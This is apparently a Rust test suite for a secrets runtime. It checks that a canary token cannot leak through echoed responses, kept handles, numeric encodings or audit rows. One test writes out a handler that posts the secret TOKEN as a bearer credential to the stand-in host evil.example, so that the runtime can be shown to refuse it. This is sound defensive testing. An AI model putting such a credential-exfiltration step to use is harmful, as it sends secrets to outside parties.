//! What code got hold of and tries to carry on: an echoed value in another request, a handle kept
//! for another event, a value written as numbers.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};
use undertone_core::{Reveal, Rules, Secret, UseError};
use undertone_runtime::{EgressError, FailureKind, Result, Uses};
use undertone_tests::encodings::{CANARY, assert_clean};
use undertone_tests::servers::{Answer, Received, Server};
use undertone_tests::world::{TOPIC, World, event, hosts};

/// A server that repeats the credentials it was sent, as some do in their error pages.
async fn echoing() -> Server {
    Server::plain(|request: &Received| {
        let sent = request.header("authorization").unwrap_or_default().to_vec();
        Answer::new(200, &[], sent.strip_prefix(b"Bearer ").unwrap_or(&sent))
    })
    .await
}

#[tokio::test]
async fn an_echoed_value_goes_nowhere_else_in_any_part_of_a_request() {
    let (echo, other) = (echoing().await, echoing().await);
    for part in ["address", "headers", "body", "none"] {
        let world = World::new().await;
        world.set_with("dev", "TOKEN", CANARY, hosts(&[&echo.host()])).await;
        let (from, to) = (echo.url("/"), other.url("/"));
        let result = world
            .within("dev", async move |event| {
                let token = event.secrets("TOKEN").await.unwrap();
                let answer = event.http().get(&from).bearer(&token).send().await.unwrap();
                let text = String::from_utf8(answer.bytes().to_vec()).unwrap();
                assert_eq!(text, CANARY, "the finder must have something to find");
                let request = event.http().post(&to);
                match part {
                    "address" => request.query("q", text.as_str()),
                    "headers" => request.header("X-Note", text.as_str()),
                    "body" => request.json(&json!({ "deep": [{ "note": text }] })),
                    _ => request.json(&json!({ "note": "nothing" })),
                }
                .send()
                .await
            })
            .await;
        if part == "none" {
            assert!(result.is_ok());
            continue;
        }
        let error = result.err().expect("it is refused");
        assert!(matches!(&error, EgressError::SecretInRequest { place, .. } if *place == part), "{error}");
        assert_clean(error.to_string().as_bytes(), CANARY);
        let rows = world.rows_in_short().await;
        assert_eq!(rows, ["secret.use TOKEN allowed", "secret.use TOKEN refused secret_in_request"]);
    }
    assert_eq!(other.requests().len(), 1, "only the harmless request arrived");
    assert_clean(&other.wire(), CANARY);
}

#[tokio::test]
async fn a_value_that_code_may_reveal_may_be_part_of_a_request() {
    let server = echoing().await;
    let world = World::new().await;
    let rules = Rules { reveal: Reveal::Allowed, ..hosts(&[&server.host()]) };
    world.set_with("dev", "TOKEN", CANARY, rules).await;
    let url = server.url("/");
    let sent = world
        .within("dev", async move |event| {
            let token = event.secrets("TOKEN").await.unwrap();
            let text = token.reveal("it is the name of a host").await.unwrap();
            let text = String::from_utf8(text.expose().to_vec()).unwrap();
            event.http().post(&url).json(&json!({ "note": text })).send().await
        })
        .await;
    assert!(sent.is_ok());
    assert_eq!(server.request().json()["note"], CANARY);
}

#[tokio::test]
async fn a_handle_that_was_kept_is_refused_in_the_next_event_and_after_its_own() {
    let server = echoing().await;
    let world = World::new().await;
    world.set_with("dev", "TOKEN", CANARY, hosts(&[&server.host()])).await;
    let kept: Arc<Mutex<Option<Secret>>> = Arc::default();
    let keep = kept.clone();
    world
        .within("dev/red", async move |event| {
            let token = event.secrets("TOKEN").await.unwrap();
            *keep.lock().unwrap() = Some(token);
        })
        .await;
    let (url, old) = (server.url("/"), kept.lock().unwrap().take().expect("it was kept"));
    let revealed = old.reveal("later").await;
    assert!(matches!(revealed, Err(UseError::NotOfThisEvent { .. })));
    let result =
        world.within("dev/blue", async move |event| event.http().post(&url).bearer(&old).send().await).await;
    assert!(matches!(result, Err(EgressError::Secret(UseError::NotOfThisEvent { .. }))));
    assert_eq!(server.connections(), 0);
}

#[tokio::test]
async fn a_listeners_own_hosts_stand_in_for_no_rule_of_the_owners() {
    let world = World::new().await;
    world.set_with("live", "TOKEN", CANARY, Rules::default()).await;
    let listener =
        undertone_runtime::Listener::new("tester").uses(Uses::secret("TOKEN").host("evil.example"));
    let listener = listener.on(TOPIC, async |event: undertone_runtime::Event| -> Result<()> {
        let token = event.secrets("TOKEN").await?;
        event.http().post("https://evil.example/").bearer(&token).send().await?;
        Ok(())
    });
    let report = world.dispatch(listener, &event(TOPIC, "live")).await;
    let message = &report.failures().next().expect("it is refused").message;
    assert!(message.contains("names no host"), "{message}");
    assert_eq!(world.rows_in_short().await, ["secret.use TOKEN refused no_host_rule"]);
}

#[tokio::test]
async fn a_value_written_as_numbers_is_found() {
    let world = World::new().await;
    world.set("dev", "TOKEN", CANARY).await;
    let bytes = CANARY.as_bytes();
    for reply in [json!(bytes), json!({ "a": [bytes] }), json!(format!("{bytes:?}"))] {
        let given: Value = reply.clone();
        let listener = world.listener().on(TOPIC, move |event: undertone_runtime::Event| {
            let given = given.clone();
            async move {
                drop(event.secrets("TOKEN").await?);
                Ok::<Value, undertone_runtime::Error>(given)
            }
        });
        let report = world.dispatch(listener, &event(TOPIC, "dev")).await;
        let failure = report.failures().next().unwrap_or_else(|| panic!("{reply} went out"));
        assert!(matches!(&failure.kind, FailureKind::SecretInOutput { name, .. } if name == "TOKEN"));
    }
}

#[tokio::test]
async fn a_handler_without_time_left_is_not_started() {
    let mut world = World::new().await;
    world.budget = Duration::from_millis(50);
    let begun = Arc::new(Mutex::new(0));
    let count = begun.clone();
    let listener = world
        .listener()
        .on(TOPIC, async |_: undertone_runtime::Event| -> Result<()> {
            tokio::time::sleep(Duration::from_secs(5)).await;
            Ok(())
        })
        .on(TOPIC, move |_: undertone_runtime::Event| {
            *count.lock().unwrap() += 1;
            async { Ok(()) }
        });
    let report = world.dispatch(listener, &event(TOPIC, "dev")).await;
    let kinds: Vec<&FailureKind> = report.failures().map(|failure| &failure.kind).collect();
    assert_eq!(kinds, [&FailureKind::Deadline, &FailureKind::Deadline]);
    assert_eq!(*begun.lock().unwrap(), 0);
}

#[tokio::test]
async fn a_value_that_is_asked_for_as_a_name_does_not_reach_the_audit_trail() {
    let world = World::new().await;
    world.set_with("dev", "TOKEN", CANARY, hosts(&["slack.com"])).await;
    world
        .within("dev", async move |event| {
            let refused = event.secrets(CANARY).await;
            assert!(refused.is_err());
        })
        .await;
    let rows = world.rows().await;
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["reason"], "[secret:TOKEN]");
    assert_clean(rows[0].to_string().as_bytes(), CANARY);
}
